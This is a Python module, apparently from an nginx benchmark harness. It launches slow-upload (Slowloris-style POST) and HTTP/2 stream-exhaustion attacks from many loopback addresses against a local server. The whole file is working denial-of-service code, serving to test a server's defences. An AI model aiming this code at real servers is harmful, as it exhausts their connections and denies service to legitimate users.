"""Clients that take places in nginx and give nothing: uploads that do not end, over HTTP/1.1 and over HTTP/2.

Each costs its client a few dozen bytes. One that is refused comes back at once, so an attack lasts until ``stop``.
"""

from __future__ import annotations

import asyncio
import contextlib
import threading
from dataclasses import dataclass
from typing import TYPE_CHECKING, Self

if TYPE_CHECKING:
    from types import TracebackType

__all__ = ["Attack", "Attackers"]

_BYTE_SECONDS = 5.0
"""Between two bytes of an upload: nginx waits longer (``client_body_timeout``)."""
_BACK_SECONDS = 0.5
_STREAMS = 128
"""Of each HTTP/2 connection: nginx's http2_max_concurrent_streams."""
_HEAD = b"POST / HTTP/1.1\r\nHost: bench\r\nContent-Length: 100000\r\n\r\nx"
_PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
_SETTINGS, _HEADERS, _DATA = 4, 1, 0
_END_HEADERS = 4
# HPACK: indexed :method POST, :scheme http, :path /; :authority and content-length as literals (RFC 7541, appendix A).
_BLOCK = b"\x83\x86\x84" + b"\x01\x05bench" + b"\x0f\x0d\x06100000"


@dataclass(frozen=True)
class Attack:
    """Who attacks: so many addresses (127.0.0.2 and on), each with so many connections."""

    title: str
    addresses: int = 0
    connections: int = 0
    http2: bool = False


class Attackers:
    """An attack for a ``with`` block, in a thread of its own."""

    def __init__(self, attack: Attack, port: int) -> None:
        self._attack, self._port = attack, port
        self._loop = asyncio.new_event_loop()
        self._thread = threading.Thread(target=self._loop.run_forever, daemon=True)
        self._tasks: list[asyncio.Future[None]] = []

    def __enter__(self) -> Self:
        """Begin."""
        self._thread.start()
        asyncio.run_coroutine_threadsafe(self._begin(), self._loop).result()
        return self

    def __exit__(
        self, kind: type[BaseException] | None, error: BaseException | None, traceback: TracebackType | None
    ) -> None:
        """End; every connection is closed."""
        asyncio.run_coroutine_threadsafe(self._end(), self._loop).result()
        self._loop.call_soon_threadsafe(self._loop.stop)
        self._thread.join()
        self._loop.close()

    async def _begin(self) -> None:
        attack = self._attack
        for number in range(attack.addresses):
            self._tasks += [
                asyncio.ensure_future(self._again(f"127.0.0.{number + 2}")) for _ in range(attack.connections)
            ]

    async def _end(self) -> None:
        for task in self._tasks:
            task.cancel()
        await asyncio.gather(*self._tasks, return_exceptions=True)

    async def _again(self, address: str) -> None:
        while True:
            with contextlib.suppress(OSError):
                reader, writer = await asyncio.open_connection("127.0.0.1", self._port, local_addr=(address, 0))
                try:
                    await (self._streams if self._attack.http2 else self._upload)(reader, writer)
                finally:
                    writer.close()
            await asyncio.sleep(_BACK_SECONDS)

    async def _upload(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Send the head, then a byte now and then, until an answer comes: a refusal."""
        writer.write(_HEAD)
        answer = asyncio.ensure_future(reader.read(1))
        try:
            while not (await asyncio.wait([answer], timeout=_BYTE_SECONDS))[0]:
                writer.write(b"x")
        finally:
            answer.cancel()

    async def _streams(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        """Keep as many streams open as nginx allows: one that is refused is replaced in the next round."""
        writer.write(_PREFACE + _frame(_SETTINGS, 0, 0, b""))
        number = 1
        open_ones: set[int] = set()
        reading = asyncio.ensure_future(self._ended(reader, open_ones))
        try:
            while not reading.done():
                while len(open_ones) < _STREAMS:
                    writer.write(_frame(_HEADERS, _END_HEADERS, number, _BLOCK) + _frame(_DATA, 0, number, b"x"))
                    open_ones.add(number)
                    number += 2
                await asyncio.wait([reading], timeout=_BACK_SECONDS)
        finally:
            reading.cancel()

    async def _ended(self, reader: asyncio.StreamReader, open_ones: set[int]) -> None:
        """Forget the streams that the server answers or resets."""
        with contextlib.suppress(EOFError):
            while True:
                head = await reader.readexactly(9)
                await reader.readexactly(int.from_bytes(head[:3], "big"))
                open_ones.discard(int.from_bytes(head[5:9], "big"))


def _frame(kind: int, flags: int, stream: int, payload: bytes) -> bytes:
    """Return a frame: RFC 9113, section 4.1."""
    return len(payload).to_bytes(3, "big") + bytes((kind, flags)) + stream.to_bytes(4, "big") + payload
